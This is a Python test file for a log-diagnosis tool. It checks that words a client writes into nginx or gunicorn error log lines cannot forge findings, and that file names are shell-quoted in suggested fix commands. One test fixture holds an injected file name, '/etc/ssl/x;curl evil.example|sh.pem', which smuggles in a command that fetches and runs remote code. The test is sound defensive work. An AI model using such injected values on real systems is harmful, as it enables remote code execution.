"""What a client writes into a line of nginx's error log proves nothing: every judge's own words are put there."""

from __future__ import annotations

import shlex
from collections.abc import Callable

import msgspec
import pytest

from ops.diagnosis.catalogue import catalogue
from ops.diagnosis.checks import CHECKS
from ops.diagnosis.engine import run_checks
from ops.facts.base import NotSeen
from ops.facts.logs import Log, LogEntry, Logs
from ops.facts.snapshot import Snapshot
from ops.interpret.nginx_error_line import own_words
from ops.text.language import Text
from tests.unit.diagnosis.checks import (
    test_app_refusals,
    test_app_traffic,
    test_fifth_collection,
    test_gunicorn,
    test_gunicorn_workers,
    test_host,
    test_net_holder,
    test_nginx,
    test_nginx_errors,
    test_nginx_refused_users,
    test_nginx_routing,
    test_nginx_running,
    test_nginx_sent,
    test_nginx_traffic,
    test_nginx_unknown_words,
    test_own_limits,
)
from tests.unit.diagnosis.checks.cases import Case, found
from tests.unit.made_snapshot import DOMAIN, but, entry, nginx_logs

MODULES = (
    test_fifth_collection,
    test_host,
    test_net_holder,
    test_nginx,
    test_nginx_errors,
    test_nginx_refused_users,
    test_nginx_routing,
    test_nginx_running,
    test_nginx_sent,
    test_nginx_traffic,
    test_nginx_unknown_words,
    test_own_limits,
)
LINE = (
    '*1 {message}, client: 203.0.113.9, server: {server}, request: "GET {path} HTTP/1.1", host: "{host}",'
    ' referrer: "{referrer}"'
)
HARMLESS = "access forbidden by rule"


def _line(message: str = HARMLESS, path: str = "/x", host: str = DOMAIN, referrer: str = "-") -> str:
    return LINE.format(message=message, server=DOMAIN, path=path, host=host, referrer=referrer)


def _unserved(words: str) -> str:
    return _line(f'open() "/srv/www/{words}" failed (2: No such file or directory)')


PLACES: dict[str, Callable[[str], str]] = {
    "referrer": lambda words: _line(referrer=words),
    "host": lambda words: _line(host=words),
    "path": lambda words: _line(path=f"/{words}"),
    "path that the message quotes": _unserved,
    "path with quotation marks": lambda words: _unserved(f'a" {words} "'),
    "path with an end of the message": lambda words: _unserved(f'a" {words}, client: 203.0.113.8, server: "'),
}
CASES: list[Case] = []
FORGED = [
    case
    for module in MODULES
    for case in module.CASES
    if case.proven
    and any(isinstance(log, Log) and log.entries for log in case.snapshot.logs.nginx_errors.values())
]


def _with_lines(snapshot: Snapshot, rewritten: Callable[[LogEntry], str]) -> Snapshot:
    logs = {
        path: msgspec.structs.replace(
            log, entries=tuple(msgspec.structs.replace(e, text=rewritten(e)) for e in log.entries)
        )
        if isinstance(log, Log)
        else log
        for path, log in snapshot.logs.nginx_errors.items()
    }
    return but(snapshot, logs__nginx_errors=logs)


@pytest.mark.parametrize("case", FORGED, ids=str)
def test_words_that_a_client_wrote_prove_nothing(case: Case) -> None:
    if _is_proven(case, lambda _: _line()) or _is_proven(case, lambda _: _unserved("x")):
        return  # without these words too
    for place, made in PLACES.items():
        assert not _is_proven(case, lambda e, made=made: made(e.text)), place  # type: ignore[misc]


def _is_proven(case: Case, rewritten: Callable[[LogEntry], str]) -> bool:
    """Whether the case's own judge proves its code from these lines."""
    return _proves(case, _with_lines(case.snapshot, rewritten))


def _proves(case: Case, snapshot: Snapshot) -> bool:
    checks = [check for check in CHECKS if case.code in check.codes]
    _, findings = run_checks(snapshot, checks, catalogue())
    return any(finding.code == case.code for finding in findings)


OF_GUNICORN = [
    case
    for module in (
        test_app_refusals,
        test_app_traffic,
        test_gunicorn,
        test_gunicorn_workers,
        test_host,
        *MODULES,
    )
    for case in module.CASES
    # NGX085 compares the words of refusals themselves, after the doctor's own request was refused.
    if case.proven
    and case.code != "NGX085"
    and isinstance(case.snapshot.logs, Logs)
    and isinstance(case.snapshot.logs.gunicorn_error, Log)
    and case.snapshot.logs.gunicorn_error.entries
]


@pytest.mark.parametrize("case", OF_GUNICORN, ids=str)
def test_words_in_a_request_that_gunicorn_refuses_prove_nothing(case: Case) -> None:
    if not _is_proven_by_refusals(case, lambda _: "X"):
        assert not _is_proven_by_refusals(case, lambda e: repr(e.text)[1:-1])


def _is_proven_by_refusals(case: Case, words: Callable[[LogEntry], str]) -> bool:
    log = case.snapshot.logs.gunicorn_error
    refusals = tuple(
        msgspec.structs.replace(
            e, text=f"Invalid request from ip=203.0.113.9: Invalid HTTP request line: '{words(e)}'"
        )
        for e in log.entries
    )
    snapshot = but(case.snapshot, logs__gunicorn_error=msgspec.structs.replace(log, entries=refusals))
    return _proves(case, snapshot)


def test_a_file_s_name_in_a_command_is_quoted() -> None:
    name = "/etc/ssl/x;curl evil.example|sh.pem"
    line = (
        f'*1 cannot load certificate "{name}": BIO_new_file() failed (SSL: error:80: Permission denied),'
        " client: 203.0.113.9, server: 0.0.0.0:443"
    )
    finding = found(but(logs__nginx_errors=nginx_logs(entry(line)), front=NotSeen(reason="off")))["NGX060"]
    assert finding.fix is not None
    first = finding.fix[0]
    assert isinstance(first, Text)
    for words in (first.en, first.zh):
        assert f"namei -l {shlex.quote(name)}" in words


@pytest.mark.parametrize(
    ("text", "own"),
    [
        ('*1 open() "/a" failed (2: No), client: 1.1.1.1, server: x', 'open() "…" failed (2: No)'),
        (
            'write() to "/a" failed (28: No space left on device)',
            'write() to "…" failed (28: No space left on device)',
        ),
        # nginx cuts long lines off: where the message ends is not known.
        ('*1 open() "/a" connect() failed "' + "b" * 2000, "open() "),
        ('*1 open() "/a" connect() failed "b', "open() "),
        ('*1 broken header: "GET / HTTP/1.1" while reading', "broken header: "),
    ],
)
def test_what_a_message_quotes_is_no_word_of_nginx(text: str, own: str) -> None:
    assert own_words(text) == own
